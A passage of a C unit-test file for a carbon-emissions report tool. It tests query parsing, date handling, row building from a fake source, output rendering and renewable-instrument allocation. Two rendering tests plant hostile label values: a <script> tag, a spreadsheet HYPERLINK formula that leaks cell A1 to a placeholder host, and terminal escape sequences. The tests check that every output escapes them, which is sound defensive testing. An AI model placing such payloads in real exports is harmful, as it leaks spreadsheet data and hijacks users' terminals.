/* SPDX-License-Identifier: Apache-2.0 */
/* The carbon report without a server: the query API's answers parsed (vectors, matrices,
 * errors, non-finite values), times and months, the energy basis of the queries, the rows
 * assembled from a stand-in source (system and idle rows that add up to the nodes, range
 * queries chunked to a point limit, partial days, missing data), and the four outputs
 * with hostile label values. Real servers: tests/e2e/test_report.sh. */
#include <check.h>
#include <errno.h>
#include <json-c/json.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "report/instruments.h"
#include "report/query.h"
#include "report/report.h"

#define DAY JP_REPORT_DAY_MS

START_TEST(test_parse_vector)
{
	const char *b = "{\"status\":\"success\",\"data\":{\"resultType\":\"vector\",\"result\":["
			"{\"metric\":{\"namespace\":\"a\"},\"value\":[1700000000.5,\"12.5\"]},"
			"{\"metric\":{\"namespace\":\"b\"},\"value\":[1700000000,\"NaN\"]},"
			"{\"metric\":{},\"value\":[1700000000,\"+Inf\"]}]},"
			"\"warnings\":[\"partial response\",\"store down\"]}";
	struct jp_query_result r;
	char why[256];
	ck_assert_int_eq(jp_query_parse(b, strlen(b), &r, why, sizeof(why)), 0);
	ck_assert_uint_eq(r.nseries, 3);
	ck_assert_str_eq(jp_query_label(&r.series[0], "namespace"), "a");
	ck_assert_ptr_null(jp_query_label(&r.series[0], "pod"));
	ck_assert_uint_eq(r.series[0].npoints, 1);
	ck_assert_int_eq(r.series[0].t_ms[0], 1700000000500LL);
	ck_assert_double_eq(r.series[0].v[0], 12.5);
	ck_assert_uint_eq(r.series[1].npoints, 0);   /* NaN left out */
	ck_assert_uint_eq(r.series[2].npoints, 0);   /* +Inf too */
	ck_assert_str_eq(r.warnings, "partial response; store down");
	jp_query_result_free(&r);
}
END_TEST

START_TEST(test_parse_matrix_scalar)
{
	const char *m = "{\"status\":\"success\",\"data\":{\"resultType\":\"matrix\",\"result\":["
			"{\"metric\":{\"node\":\"n1\"},\"values\":[[86400,\"1\"],[172800,\"2.5\"]]}]}}";
	struct jp_query_result r;
	char why[256];
	ck_assert_int_eq(jp_query_parse(m, strlen(m), &r, why, sizeof(why)), 0);
	ck_assert_uint_eq(r.series[0].npoints, 2);
	ck_assert_int_eq(r.series[0].t_ms[1], 172800000LL);
	ck_assert_double_eq(r.series[0].v[1], 2.5);
	jp_query_result_free(&r);
	const char *s = "{\"status\":\"success\",\"data\":{\"resultType\":\"scalar\",\"result\":[5,\"7\"]}}";
	ck_assert_int_eq(jp_query_parse(s, strlen(s), &r, why, sizeof(why)), 0);
	ck_assert_uint_eq(r.nseries, 1);
	ck_assert_double_eq(r.series[0].v[0], 7);
	jp_query_result_free(&r);
}
END_TEST

START_TEST(test_parse_errors)
{
	static const struct {
		const char *body, *why;
	} cases[] = {
		{"{\"status\":\"error\",\"errorType\":\"bad_data\",\"error\":\"parse error\"}",
		 "the server says bad_data: parse error"},
		{"<html>502 Bad Gateway</html>", "not the query API's JSON"},
		{"{\"status\":\"success\"}", "no data.result"},
		{"{\"data\":{}}", "no \"status\": \"success\""},
		{"{\"status\":\"success\",\"data\":{\"resultType\":\"string\",\"result\":[1,\"x\"]}}", "unexpected resultType"},
		{"{\"status\":\"success\",\"data\":{\"resultType\":\"vector\",\"result\":[{\"metric\":{}}]}}", "has no \"value\""},
		{"{\"status\":\"success\",\"data\":{\"resultType\":\"vector\",\"result\":[{\"metric\":{\"a\":1},\"value\":[1,\"1\"]}]}}",
		 "label a is not a string"},
		{"{\"status\":\"success\",\"data\":{\"resultType\":\"vector\",\"result\":[{\"metric\":{},\"value\":[1,1]}]}}",
		 "not [time, \"value\"]"},
		{"{\"status\":\"success\",\"data\":{\"resultType\":\"vector\",\"result\":[{\"metric\":{},\"value\":[1,\"1x\"]}]}}",
		 "not [time, \"value\"]"},
		{"{\"status\":\"success\",\"data\":{\"resultType\":\"matrix\",\"result\":[{\"metric\":{},\"values\":[[1,\"1\"],[2]]}]}}",
		 "not [time, \"value\"]"},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct jp_query_result r;
		char why[256];
		ck_assert_int_eq(jp_query_parse(cases[i].body, strlen(cases[i].body), &r, why, sizeof(why)), -EINVAL);
		ck_assert_msg(strstr(why, cases[i].why), "case %zu: %s", i, why);
		ck_assert_uint_eq(r.nseries, 0);
	}
}
END_TEST

START_TEST(test_times)
{
	int64_t t, f, e;
	ck_assert_int_eq(jp_report_time_parse("2026-11-01", &t), 0);
	ck_assert_int_eq(t, 1793491200000LL);
	ck_assert_int_eq(jp_report_time_parse("2026-11-01T01:30:00+01:00", &t), 0);
	ck_assert_int_eq(t, 1793491200000LL + 30 * 60000LL);
	ck_assert_int_eq(jp_report_time_parse("2026-11-31", &t), -EINVAL);
	ck_assert_int_eq(jp_report_time_parse("yesterday", &t), -EINVAL);
	ck_assert_int_eq(jp_report_month_parse("2026-12", &f, &e), 0);
	ck_assert_int_eq(e - f, 31 * DAY);
	char b[32];
	jp_report_time_format(e, 1, b, sizeof(b));
	ck_assert_str_eq(b, "2027-01-01");
	ck_assert_int_eq(jp_report_month_parse("2028-02", &f, &e), 0);
	ck_assert_int_eq(e - f, 29 * DAY);   /* leap year */
	ck_assert_int_eq(jp_report_month_parse("2026-13", &f, &e), -EINVAL);
	ck_assert_int_eq(jp_report_month_parse("2026-1", &f, &e), -EINVAL);
	ck_assert_int_eq(jp_report_month_parse("2026-11x", &f, &e), -EINVAL);
	jp_report_time_format(f, 0, b, sizeof(b));
	ck_assert_str_eq(b, "2028-02-01T00:00:00Z");
}
END_TEST

START_TEST(test_energy_expr)
{
	char b[2048];
#define S(z, g, m, w) "sum by (" g ") (increase(m{" z m "}[" w "]))"
	ck_assert_int_eq(jp_report_energy_expr(b, sizeof(b), "m", "node", "", 3600), 0);
	ck_assert_str_eq(b, "sum by (node) (" S("zone=\"platform\"", "cluster, node", "", "3600s") " or (("
			    S("zone=\"psys\"", "cluster, node", "", "3600s") " or "
			    S("zone=~\"package|dram\"", "cluster, node", "", "3600s") ") + "
			    S("zone=\"gpu\"", "cluster, node", "", "3600s") ") or "
			    S("zone=\"psys\"", "cluster, node", "", "3600s") " or "
			    S("zone=~\"package|dram\"", "cluster, node", "", "3600s") ")");
	ck_assert_int_eq(jp_report_energy_expr(b, sizeof(b), "m", "namespace, pod", "cluster=\"x\"", 60), 0);
	ck_assert_msg(strstr(b, S("zone=\"gpu\"", "cluster, node, namespace, pod", ", cluster=\"x\"", "60s")) != NULL,
		      "%s", b);
#undef S
	ck_assert_int_eq(jp_report_energy_expr(b, 40, "m", "node", "", 1), -ENOSPC);
}
END_TEST

/* ---- a stand-in source ------------------------------------------------------------------ */

/* Namespaces a and b; the nodes use 1000 J and 100 g per day, the system 50 J; namespace
 * a 300 J and 30 g, b 200 J and 20 g per day; embodied only for a. */
struct fake {
	int64_t from_ms;
	size_t instants, ranges, points;
	int fail_at;         /* query number that fails (1-based), 0: none */
	int no_data_after;   /* days from from_ms after which nothing is stored, 0: all */
	int empty_groups;
	int no_nodes;        /* the store keeps no node series */
	int conv_skew;       /* the converted-energy counter reads 1 % above the zone sum, and
	                        the node CO2 with it (the store extrapolated them apart) */
};

static double per_day(const char *expr, const char *group_key)
{
	int node = !!strstr(expr, "joulepush_node_"), sys = !!strstr(expr, "joulepush_system_");
	int energy = !!strstr(expr, "energy"), co2 = !!strstr(expr, "co2"), emb = !!strstr(expr, "embodied");
	if (strstr(expr, "count_over_time"))
		return 288;
	if (strstr(expr, "requests_total"))   /* --sci-unit: a: 100 thousand requests a day, b: 50 */
		return !strcmp(group_key, "a") ? 100 : 50;
	if (node && strstr(expr, "carbon_free"))
		return strstr(expr, "zone=") ? -1 : 250;   /* a quarter of the nodes' energy was carbon-free;
							      the counter has no zone label */
	if (node)
		return energy ? 1000 : 100;
	if (sys)
		return 50;
	if (emb)
		return strcmp(group_key, "a") ? -1 : 5;
	double share = !strcmp(group_key, "a") ? 0.3 : 0.2;
	return energy ? 1000 * share : co2 ? 100 * share : 0;
}

/* Days of data in (t - w, t]. */
static double days_in(const struct fake *fk, int64_t t, int64_t w_ms)
{
	int64_t lo = t - w_ms, hi = t;
	if (fk->no_data_after) {
		int64_t end = fk->from_ms + fk->no_data_after * DAY;
		hi = hi < end ? hi : end;
	}
	return hi > lo ? (double)(hi - lo) / DAY : 0;
}

static int64_t window_ms(const char *expr)
{
	const char *p = strrchr(expr, '[');
	return p ? atoll(p + 1) * 1000 : 0;
}

static void add(struct jp_query_result *out, const char *k, const char *v, int64_t t, double val)
{
	out->series = realloc(out->series, (out->nseries + 1) * sizeof(*out->series));
	struct jp_query_series *s = &out->series[out->nseries];
	for (size_t i = 0; i < out->nseries; i++)
		if (k && out->series[i].nlabels && !strcmp(out->series[i].labels[1], v))
			s = &out->series[i];
	if (s == &out->series[out->nseries]) {
		memset(s, 0, sizeof(*s));
		s->labels = calloc(2, sizeof(char *));
		if (k) {
			s->labels[0] = strdup(k);
			s->labels[1] = strdup(v);
			s->nlabels = 1;
		}
		out->nseries++;
	}
	s->t_ms = realloc(s->t_ms, (s->npoints + 1) * sizeof(int64_t));
	s->v = realloc(s->v, (s->npoints + 1) * sizeof(double));
	s->t_ms[s->npoints] = t;
	s->v[s->npoints++] = val;
}

static void answer(struct fake *fk, const char *expr, int64_t t, struct jp_query_result *out)
{
	double d = days_in(fk, t, window_ms(expr));
	if (d <= 0 || (fk->no_nodes && strstr(expr, "joulepush_node_")))
		return;
	int grouped = !!strstr(expr, "sum by (namespace)");
	if (!grouped) {
		int skewed = fk->conv_skew && (strstr(expr, "joulepush_node_converted_") || strstr(expr, "joulepush_node_co2_"));
		if (per_day(expr, "") >= 0)   /* -1: no such series */
			add(out, NULL, NULL, t, per_day(expr, "") * d * (skewed ? 1.01 : 1));
		return;
	}
	if (fk->empty_groups)
		return;
	for (const char *const *k = (const char *const[]){"a", "b", NULL}; *k; k++)
		if (per_day(expr, *k) >= 0)
			add(out, "namespace", *k, t, per_day(expr, *k) * d);
}

static int f_instant(void *ctx, const char *expr, int64_t t, struct jp_query_result *out, char *why, size_t whylen)
{
	struct fake *fk = ctx;
	memset(out, 0, sizeof(*out));
	fk->instants++;
	if (fk->fail_at && (int)(fk->instants + fk->ranges) == fk->fail_at) {
		snprintf(why, whylen, "HTTP 503: overloaded");
		return -EIO;
	}
	answer(fk, expr, t, out);
	return 0;
}

static int f_range(void *ctx, const char *expr, int64_t s, int64_t e, int64_t step, struct jp_query_result *out,
		   char *why, size_t whylen)
{
	struct fake *fk = ctx;
	memset(out, 0, sizeof(*out));
	fk->ranges++;
	ck_assert(step == DAY || (step == 3600000 && window_ms(expr) == 3600000));
	for (int64_t t = s; t <= e; t += step) {
		fk->points++;
		answer(fk, expr, t, out);
	}
	return 0;
}

static struct jp_report_source fake_source(struct fake *fk, size_t max_points)
{
	return (struct jp_report_source){.instant = f_instant, .range = f_range, .ctx = fk, .max_points = max_points};
}

START_TEST(test_build_rows)
{
	struct fake fk = {.from_ms = 10 * DAY};
	struct jp_report_source src = fake_source(&fk, 2);   /* 5 days: chunks of 2, 2, 1 */
	struct jp_report_params p = {.from_ms = 10 * DAY, .to_ms = 15 * DAY, .by = JP_BY_NAMESPACE};
	struct jp_report r;
	char why[512];
	ck_assert_int_eq(jp_report_build(&src, &p, &r, why, sizeof(why)), 0);
	ck_assert_uint_eq(r.nrows, 4);
	ck_assert_str_eq(r.rows[0].key, "a");
	ck_assert_double_eq_tol(r.rows[0].energy_j, 1500, 1e-9);
	ck_assert_double_eq_tol(r.rows[0].co2_g, 150, 1e-9);
	ck_assert_double_eq_tol(r.rows[0].embodied_g, 25, 1e-9);
	ck_assert_str_eq(r.rows[1].key, "b");
	ck_assert_double_eq_tol(r.rows[1].embodied_g, 0, 1e-9);
	ck_assert_int_eq(r.rows[2].kind, JP_ROW_SYSTEM);
	ck_assert_double_eq_tol(r.rows[2].energy_j, 250, 1e-9);
	ck_assert_int_eq(r.rows[3].kind, JP_ROW_IDLE);
	ck_assert_double_eq_tol(r.rows[3].energy_j, 5000 - 1500 - 1000 - 250, 1e-9);
	/* The rest of the CO2 (500 - 250) is shared by energy: 250 J vs 2250 J. */
	ck_assert_double_eq_tol(r.rows[2].co2_g, 25, 1e-9);
	ck_assert_double_eq_tol(r.rows[3].co2_g, 225, 1e-9);
	ck_assert_double_eq_tol(r.total.energy_j, 5000, 1e-9);
	ck_assert_double_eq_tol(r.total.co2_g, 500, 1e-9);
	ck_assert(r.has_embodied);
	ck_assert_uint_eq(r.ndays, 5);
	for (size_t d = 0; d < 5; d++) {
		ck_assert(r.day_has_data[d]);
		ck_assert_double_eq_tol(r.total.daily_co2_g[d], 100, 1e-9);
		ck_assert_double_eq_tol(r.rows[0].daily_co2_g[d], 30, 1e-9);
		ck_assert_double_eq_tol(r.rows[2].daily_co2_g[d] + r.rows[3].daily_co2_g[d], 50, 1e-9);
	}
	/* Three daily figures, each in chunks of 2 + 2 + 1 days: no day twice, none left out. */
	ck_assert_uint_eq(fk.ranges, 9);
	ck_assert_uint_eq(fk.points, 15);
	ck_assert_uint_eq(r.queries, fk.ranges + fk.instants);
	ck_assert_str_eq(r.warnings, "");
	jp_report_free(&r);
}
END_TEST

START_TEST(test_build_partial)
{
	/* 2.5 days: two whole days by range, the half day by an instant query; no data after
	 * the first day. */
	struct fake fk = {.from_ms = 10 * DAY, .no_data_after = 1};
	struct jp_report_source src = fake_source(&fk, 0);
	struct jp_report_params p = {.from_ms = 10 * DAY, .to_ms = 12 * DAY + DAY / 2, .by = JP_BY_NAMESPACE};
	struct jp_report r;
	char why[512];
	ck_assert_int_eq(jp_report_build(&src, &p, &r, why, sizeof(why)), 0);
	ck_assert_uint_eq(r.ndays, 3);
	ck_assert(r.day_has_data[0]);
	ck_assert(!r.day_has_data[1] && !r.day_has_data[2]);
	ck_assert_ptr_nonnull(strstr(r.warnings, "partial data: 2 of 3 days have no samples (1970-01-12, 1970-01-13)"));
	ck_assert_double_eq_tol(r.total.energy_j, 1000, 1e-9);
	jp_report_free(&r);

	struct fake fk2 = {.from_ms = 10 * DAY};
	src = fake_source(&fk2, 0);
	ck_assert_int_eq(jp_report_build(&src, &p, &r, why, sizeof(why)), 0);
	ck_assert_double_eq_tol(r.total.daily_co2_g[2], 50, 1e-9);   /* the half day */
	ck_assert_double_eq_tol(r.total.energy_j, 2500, 1e-9);
	jp_report_free(&r);
}
END_TEST

START_TEST(test_build_errors)
{
	struct jp_report r;
	char why[512];
	struct jp_report_params p = {.from_ms = 10 * DAY, .to_ms = 11 * DAY, .by = JP_BY_NAMESPACE,
				     .match = "{cluster=\"x\"}"};
	/* Nothing stored in the range: the node metric is named, with the usual causes. */
	struct fake none = {.from_ms = 10 * DAY, .no_data_after = -20};
	struct jp_report_source src = fake_source(&none, 0);
	ck_assert_int_eq(jp_report_build(&src, &p, &r, why, sizeof(why)), -ENODATA);
	ck_assert_ptr_nonnull(strstr(why, "no joulepush_node_energy_joules_total{cluster=\"x\"} between "
					  "1970-01-11T00:00:00Z and 1970-01-12T00:00:00Z"));
	ck_assert_ptr_nonnull(strstr(why, "tenant header"));
	/* Nodes but no namespace series (metrics.levels without namespace). */
	struct fake nogroups = {.from_ms = 10 * DAY, .empty_groups = 1};
	src = fake_source(&nogroups, 0);
	ck_assert_int_eq(jp_report_build(&src, &p, &r, why, sizeof(why)), -ENODATA);
	ck_assert_ptr_nonnull(strstr(why, "no joulepush_namespace_energy_joules_total"));
	/* A failing query is named and its reason kept. */
	struct fake failing = {.from_ms = 10 * DAY, .fail_at = 4};
	src = fake_source(&failing, 0);
	ck_assert_int_eq(jp_report_build(&src, &p, &r, why, sizeof(why)), -EIO);
	ck_assert_str_eq(why, "energy by row: HTTP 503: overloaded");
	p.match = "cluster=\"x\"";
	ck_assert_int_eq(jp_report_build(&src, &p, &r, why, sizeof(why)), -EINVAL);
	p.match = NULL;
	p.to_ms = p.from_ms;
	ck_assert_int_eq(jp_report_build(&src, &p, &r, why, sizeof(why)), -EINVAL);
}
END_TEST

/* ---- outputs ---------------------------------------------------------------------------- */

static char *render(const struct jp_report *r, enum jp_report_format fmt)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	ck_assert_int_eq(jp_report_render(r, fmt, 8, f), 0);
	fclose(f);
	return buf;
}

/* The report of three days by namespace from the fake source. */
static void build_three_days(struct jp_report *r)
{
	struct fake fk = {.from_ms = 10 * DAY};
	struct jp_report_source src = fake_source(&fk, 0);
	struct jp_report_params p = {.from_ms = 10 * DAY, .to_ms = 13 * DAY, .by = JP_BY_NAMESPACE};
	char why[512];
	ck_assert_int_eq(jp_report_build(&src, &p, r, why, sizeof(why)), 0);
}

START_TEST(test_render)
{
	struct jp_report r;
	build_three_days(&r);
	/* Label values can hold anything; no output may break on them. */
	free(r.rows[0].key);
	r.rows[0].key = strdup("a,\"<script>x</script>");

	char *csv = render(&r, JP_FMT_CSV);
	ck_assert_ptr_nonnull(strstr(csv, "namespace,kind,energy_joules,energy_kwh,co2_grams,co2_kg,"
					  "embodied_co2_grams,share,grams_per_kwh\r\n\"a,\"\"<script>x</script>\",row,900,"));
	ck_assert_ptr_nonnull(strstr(csv, "\r\n(total),total,3000,"));
	free(csv);

	char *json = render(&r, JP_FMT_JSON);
	struct json_object *o = json_tokener_parse(json);
	ck_assert_ptr_nonnull(o);
	struct json_object *rows = json_object_object_get(o, "rows"), *r0 = json_object_array_get_idx(rows, 0);
	ck_assert_str_eq(json_object_get_string(json_object_object_get(r0, "namespace")), "a,\"<script>x</script>");
	ck_assert_double_eq_tol(json_object_get_double(json_object_object_get(r0, "share")), 0.3, 1e-12);
	ck_assert_double_eq_tol(json_object_get_double(json_object_object_get(r0, "grams_per_kwh")), 100.0 / (1000 / 3.6e6), 1e-6);
	ck_assert_str_eq(json_object_get_string(json_object_object_get(o, "from")), "1970-01-11T00:00:00Z");
	ck_assert_int_eq((int)json_object_array_length(json_object_object_get(o, "days")), 3);
	struct json_object *r1 = json_object_array_get_idx(rows, 1);
	ck_assert_double_eq(json_object_get_double(json_object_object_get(r1, "embodied_co2_grams")), 0);
	json_object_put(o);
	free(json);

	char *html = render(&r, JP_FMT_HTML);
	ck_assert_ptr_null(strstr(html, "<script>"));
	ck_assert_ptr_nonnull(strstr(html, "a,&quot;&lt;script&gt;x&lt;/script&gt;"));
	size_t groups = 0;
	for (const char *s = html; (s = strstr(s, "<g class=\"day\"")); s++)
		groups++;
	ck_assert_uint_eq(groups, 3);
	ck_assert_ptr_nonnull(strstr(html, "default-src 'none'"));
	free(html);

	char *table = render(&r, JP_FMT_TABLE);
	ck_assert_ptr_nonnull(strstr(table, "NAMESPACE"));
	ck_assert_ptr_nonnull(strstr(table, "(idle, unattributed)"));
	free(table);

	/* Without embodied emissions the figure is null in JSON and empty in CSV. */
	r.has_embodied = 0;
	json = render(&r, JP_FMT_JSON);
	ck_assert_ptr_nonnull(strstr(json, "\"embodied_co2_grams\":null"));
	free(json);
	csv = render(&r, JP_FMT_CSV);
	char *b = strstr(csv, "\r\nb,row,600,");
	ck_assert_ptr_nonnull(b);
	const char *field = b + 2;
	for (int i = 0; i < 6; i++)
		field = strchr(field, ',') + 1;   /* to the seventh field: embodied */
	ck_assert_int_eq(*field, ',');
	free(csv);
	jp_report_free(&r);
}
END_TEST

/* Hostile label values: a CSV cell that a spreadsheet would run as a formula gets a
 * leading ', terminal escapes never reach the table, and JSON stays valid UTF-8. */
START_TEST(test_render_hostile)
{
	struct jp_report r;
	build_three_days(&r);
	free(r.rows[0].key);
	r.rows[0].key = strdup("=HYPERLINK(\"http://x/?\"&A1,\"see\")");
	free(r.rows[1].key);
	r.rows[1].key = strdup("team\033]0;owned\007\033[2J\xc2\x9b" "31m\xff" "-b");
	char *csv = render(&r, JP_FMT_CSV);
	ck_assert_msg(strstr(csv, "\r\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"see\"\")\",row,") != NULL, "%s", csv);
	ck_assert_msg(strstr(csv, "\r\n'=") == NULL && strstr(csv, "\r\n=") == NULL, "%s", csv);
	free(csv);
	char *table = render(&r, JP_FMT_TABLE);
	ck_assert_ptr_null(strchr(table, '\033'));
	ck_assert_ptr_null(strchr(table, '\007'));
	ck_assert_ptr_null(strstr(table, "\xc2\x9b"));
	ck_assert_ptr_nonnull(strstr(table, "team?]0;owned??[2J?31m?-b"));
	free(table);
	char *json = render(&r, JP_FMT_JSON);
	struct json_object *o = json_tokener_parse(json);
	ck_assert_ptr_nonnull(o);
	ck_assert_ptr_null(strstr(json, "\xff"));
	ck_assert_ptr_nonnull(strstr(json, "\xef\xbf\xbd-b"));   /* U+FFFD for the bad byte */
	json_object_put(o);
	free(json);
	jp_report_free(&r);
}
END_TEST

/* A store that keeps only the namespace series (write_relabel_configs dropped the node
 * ones): the rows still come, without (system) and (idle), the total is their sum, and a
 * note says so. The carbon-free counters give each row its grid_cfe_ratio. */
START_TEST(test_build_without_node_series)
{
	struct fake fk = {.from_ms = 10 * DAY, .no_nodes = 1};
	struct jp_report_source src = fake_source(&fk, 0);
	struct jp_report_params p = {.from_ms = 10 * DAY, .to_ms = 15 * DAY, .by = JP_BY_NAMESPACE};
	struct jp_report r;
	char why[512];
	ck_assert_msg(jp_report_build(&src, &p, &r, why, sizeof(why)) == 0, "%s", why);
	ck_assert_uint_eq(r.nrows, 2);
	ck_assert_int_eq(r.no_node_series, 1);
	ck_assert_double_eq_tol(r.total.energy_j, 1500 + 1000, 1e-9);
	ck_assert_double_eq_tol(r.total.co2_g, 150 + 100, 1e-9);
	ck_assert_double_eq_tol(r.total.daily_co2_g[0], 50, 1e-9);
	ck_assert_msg(strstr(r.warnings, "without the (system) and (idle, unattributed) rows") != NULL, "%s", r.warnings);
	/* The stand-in's carbon-free counters equal the energy: every row's share is 1. */
	ck_assert_int_eq(r.has_cfe, 1);
	ck_assert_double_eq_tol(r.rows[0].cfe_j / r.rows[0].energy_j, 1, 1e-12);
	jp_report_free(&r);
}
END_TEST

/* --sci-unit: $range is the range, the units summed by the rows' label; SCI = (location CO2
 * + embodied) / units: a (150 g + 25 g) / 500 units, b 100 g / 250 units. */
START_TEST(test_build_sci)
{
	struct fake fk = {.from_ms = 10 * DAY};
	struct jp_report_source src = fake_source(&fk, 0);
	struct jp_report_params p = {.from_ms = 10 * DAY, .to_ms = 15 * DAY, .by = JP_BY_NAMESPACE,
				     .sci_unit = "increase(http_requests_total[$range]) / 1000"};
	struct jp_report r;
	char why[512];
	ck_assert_msg(jp_report_build(&src, &p, &r, why, sizeof(why)) == 0, "%s", why);
	ck_assert_str_eq(r.rows[0].key, "a");
	ck_assert_double_eq_tol(r.rows[0].units, 500, 1e-9);
	ck_assert_double_eq_tol(r.rows[1].units, 250, 1e-9);
	ck_assert(isnan(r.rows[2].units));   /* (system) has no units */
	char *json = NULL;
	size_t jl = 0;
	FILE *f = open_memstream(&json, &jl);
	ck_assert_int_eq(jp_report_render(&r, JP_FMT_JSON, 8, f), 0);
	fclose(f);
	struct json_object *o = json_tokener_parse(json);
	struct json_object *a = json_object_array_get_idx(json_object_object_get(o, "rows"), 0);
	ck_assert_double_eq_tol(json_object_get_double(json_object_object_get(a, "sci_grams_per_unit")), 175.0 / 500, 1e-12);
	struct json_object *sys = json_object_array_get_idx(json_object_object_get(o, "rows"), 2);
	ck_assert(json_object_get_type(json_object_object_get(sys, "sci_grams_per_unit")) == json_type_null);
	json_object_put(o);
	free(json);
	jp_report_free(&r);
}
END_TEST

/* ---- market-based (report/instruments.h) ------------------------------------------------ */

static char tmpdir[64];

static const char *write_tmp(const char *name, const char *text)
{
	static char path[192];
	if (!tmpdir[0]) {
		strcpy(tmpdir, "/tmp/check_report.XXXXXX");
		ck_assert_ptr_nonnull(mkdtemp(tmpdir));
	}
	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	FILE *f = fopen(path, "w");
	ck_assert_ptr_nonnull(f);
	fputs(text, f);
	fclose(f);
	return path;
}

static void rm_tmp(void)
{
	char cmd[128];
	snprintf(cmd, sizeof(cmd), "rm -rf %s", tmpdir);
	ck_assert_int_eq(system(cmd), 0);
	tmpdir[0] = 0;
}

/* Every bad instruments file is refused with FILE:LINE and what is wrong. */
START_TEST(test_instruments_errors)
{
	write_tmp("gap.csv", "hour,kwh\n2026-11-01T00:00:00Z,5\n2026-11-01T02:00:00Z,5\n");
	write_tmp("half.csv", "2026-11-01T00:30:00Z,5\n");
	write_tmp("neg.csv", "2026-11-01T00:00:00Z,-1\n");
	static const struct {
		const char *yaml, *want;
	} bad[] = {
		{"residual_mix_grams_per_kwh: 380\ninstruments:\n  - {name: a, kind: ppa, grams_per_kwh: 0, volume_kwh: 5,"
		 " from: 2026-01-01, to: 2027-01-01, colour: green}\n", ":3: instruments[0]: unknown key \"colour\""},
		{"residual_mix_grams_per_kwh: 380\npue: 0.8\n", ":2: pue: must be between 1 and 5"},
		{"residual_mix_grams_per_kwh: 380\ninstruments:\n  - name: a\n    kind: eac\n    grams_per_kwh: 0\n"
		 "    volume_kwh: -5\n    from: 2026-01-01\n    to: 2027-01-01\n", ":6: instruments[0]: negative"},
		{"residual_mix_grams_per_kwh: 380\ninstruments:\n"
		 "  - {name: go, kind: eac, grams_per_kwh: 0, volume_kwh: 5, from: 2026-01-01, to: 2026-07-01}\n"
		 "  - {name: go, kind: eac, grams_per_kwh: 0, volume_kwh: 5, from: 2026-06-01, to: 2027-01-01}\n",
		 ":4: instruments[1]: its period overlaps the one of \"go\" at line 3"},
		{"residual_mix_grams_per_kwh: 380\ninstruments:\n  - {name: p, kind: ppa, grams_per_kwh: 0, profile: gap.csv}\n",
		 "gap.csv:3: a gap before this hour"},
		{"residual_mix_grams_per_kwh: 380\ninstruments:\n  - {name: p, kind: ppa, grams_per_kwh: 0, profile: half.csv}\n",
		 "half.csv:1: expected a whole UTC hour"},
		{"residual_mix_grams_per_kwh: 380\ninstruments:\n  - {name: p, kind: ppa, grams_per_kwh: 0, profile: neg.csv}\n",
		 "neg.csv:1: kWh is not a number >= 0"},
		{"residual_mix_grams_per_kwh: 380\ninstruments:\n  - {name: p, kind: rec, grams_per_kwh: 0, volume_kwh: 1,"
		 " from: 2026-01-01, to: 2027-01-01}\n", ":3: instruments[0]: kind is ppa, eac or contract"},
		{"supplier_grams_per_kwh: 250\n", ":1: residual_mix_grams_per_kwh: is required"},
		{"residual_mix_grams_per_kwh: 380\ninstruments:\n  - {name: p, kind: ppa, grams_per_kwh: 0, volume_kwh: 1,"
		 " from: 2027-01-01, to: 2026-01-01}\n", ":3: instruments[0]: to is not after from"},
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		const char *path = write_tmp("ins.yaml", bad[i].yaml);
		struct jp_instruments ins;
		char why[512];
		ck_assert_int_eq(jp_instruments_load(path, &ins, why, sizeof(why)), -EINVAL);
		ck_assert_msg(strstr(why, bad[i].want) != NULL, "case %zu: %s", i, why);
	}
	rm_tmp();
}
END_TEST

/* The allocation, worked by hand. The range is November 2026 (30 days). Cells: team-a on
 * cluster c1 100 kWh, team-b on c1 50 kWh, team-a on edge-7 30 kWh, the rest of c1 20 kWh.
 *  1. wind-ppa, 0 g, 120 kWh over 60 days from 1 November, on c1: 60 kWh in the range;
 *     c1's uncovered 170 kWh, so it covers 60 × 100/170, 60 × 50/170 and 60 × 20/170.
 *  2. go-2026, 0 g, 1000 kWh over 2026, on edge-7: 1000 × 30/365 = 82.19 kWh available,
 *     30 used, 52.19 in excess.
 *  3. what stays uncovered takes the supplier's 250 g/kWh (not the residual 380). */
START_TEST(test_market_allocation)
{
	write_tmp("ppa.csv", "2026-11-30T23:00:00Z,4\n2026-12-01T00:00:00Z,8\n");
	const char *path = write_tmp("ins.yaml",
		"residual_mix_grams_per_kwh: 380\n"
		"supplier_grams_per_kwh: 250\n"
		"instruments:\n"
		"  - {name: wind-ppa, kind: ppa, grams_per_kwh: 0, volume_kwh: 120, from: 2026-11-01, to: 2026-12-31,\n"
		"     match: {cluster: c1}}\n"
		"  - {name: go-2026, kind: eac, grams_per_kwh: 0, volume_kwh: 1000, from: 2026-01-01, to: 2027-01-01,\n"
		"     match: {cluster: edge-7}}\n"
		"  - {name: late-ppa, kind: ppa, grams_per_kwh: 10, profile: ppa.csv}\n");
	struct jp_instruments ins;
	char why[512];
	ck_assert_msg(jp_instruments_load(path, &ins, why, sizeof(why)) == 0, "%s", why);
	ck_assert_uint_eq(ins.nkeys, 1);
	ck_assert_str_eq(ins.keys[0], "cluster");
	const char *c1[] = {"c1"}, *edge[] = {"edge-7"};
	struct jp_market_cell cells[] = {
		{.values = c1, .energy_kwh = 100}, {.values = c1, .energy_kwh = 50},
		{.values = edge, .energy_kwh = 30}, {.values = c1, .energy_kwh = 20},
	};
	int64_t from = 1793491200000LL, to = 1796083200000LL;   /* 2026-11-01, 2026-12-01 */
	jp_market_allocate(&ins, cells, 4, from, to);
	ck_assert_double_eq_tol(ins.v[0].available_kwh, 60, 1e-9);
	ck_assert_double_eq_tol(ins.v[0].used_kwh, 60, 1e-9);
	ck_assert_double_eq_tol(ins.v[1].available_kwh, 1000.0 * 30 / 365, 1e-9);
	ck_assert_double_eq_tol(ins.v[1].used_kwh, 30, 1e-9);
	/* The late PPA: its last hour of November only (4 kWh), shared by all 4 cells' rest. */
	ck_assert_double_eq_tol(ins.v[2].available_kwh, 4, 1e-9);
	ck_assert_double_eq_tol(ins.v[2].used_kwh, 4, 1e-9);
	double open = 100 + 50 + 20 - 60;   /* what the late PPA finds uncovered: c1 110, edge 0 */
	double a_unc = 100 - 60 * 100.0 / 170, b_unc = 50 - 60 * 50.0 / 170, r_unc = 20 - 60 * 20.0 / 170;
